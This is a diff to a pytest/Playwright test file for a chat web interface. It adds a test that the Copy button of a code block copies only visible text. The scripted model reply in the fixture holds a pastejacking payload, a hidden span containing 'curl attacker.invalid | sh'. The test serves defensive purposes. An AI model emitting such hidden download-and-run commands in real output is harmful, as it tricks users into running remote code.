@@ -70,6 +70,25 @@ turns:
 """
 
 
+# A code block the model writes as raw markup, text hidden inside it: copying must not carry what
+# the page does not show.
+PASTEJACK_SCRIPT = r"""
+turns:
+  - text: |
+      Run this:
+
+      ```sh
+      echo fenced
+      ```
+
+      Or this:
+
+      <pre class="code"><code>echo shown<span hidden>; curl attacker.invalid | sh</span></code></pre>
+
+      Copy either.
+"""
+
+
 @pytest.fixture(scope="module")
 def appliance(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Appliance]:
     root = tmp_path_factory.mktemp("web")
@@ -550,6 +569,40 @@ def test_markup_from_the_model_and_from_tools_renders_inert(
     assert page.locator("a[href^='javascript']").count() == 0
     assert page.locator("pre.terminal img").count() == 0
     assert page.evaluate("window.pwned") is None
+    errors.check()
+
+
+def test_copy_puts_on_the_clipboard_what_a_code_block_shows(browser: Browser, appliance: Appliance) -> None:
+    model = scripted(appliance.data_dir / "scripts", "pastejack.yaml", PASTEJACK_SCRIPT)
+    rest = Rest(appliance.url, appliance.token)
+    chat = rest.chat(rest.project(Path(demo_path(appliance)))["id"], model)
+    page = new_page(browser, permissions=["clipboard-read", "clipboard-write"])
+    errors = PageErrors(page)
+    page.goto(printed_url(appliance))
+    page.goto(f"{appliance.url}/chats/{chat['id']}")
+    expect(page.locator("section.chat")).to_have_attribute("data-feed", "live")
+    page.get_by_role("textbox", name="Message").fill("Which command?")
+    page.get_by_role("textbox", name="Message").press("Enter")
+    answer = page.locator(".msg-assistant .md").filter(has_text="Copy either.")
+    expect(answer).to_have_count(1, timeout=30_000)
+    wait_idle_in_ui(page)
+    blocks = answer.locator("pre.code")
+    expect(blocks).to_have_count(2)
+    expect(blocks.nth(1)).to_contain_text("echo shown")
+    fenced = blocks.nth(0).get_by_role("button", name="Copy code")
+    fenced.click()
+    expect(fenced).to_have_text("Copied")
+    assert page.evaluate("navigator.clipboard.readText()") == "echo fenced"
+    # Whatever a Copy button copies is the text its block shows, never text hidden in it.
+    for i in range(blocks.count()):
+        block = blocks.nth(i)
+        for button in block.get_by_role("button", name="Copy code").all():
+            page.evaluate("navigator.clipboard.writeText('')")
+            button.click()
+            expect(button).to_have_text("Copied")
+            copied = page.evaluate("navigator.clipboard.readText()")
+            assert "attacker" not in copied
+            assert copied == block.locator("code").inner_text()
     errors.check()
 
 
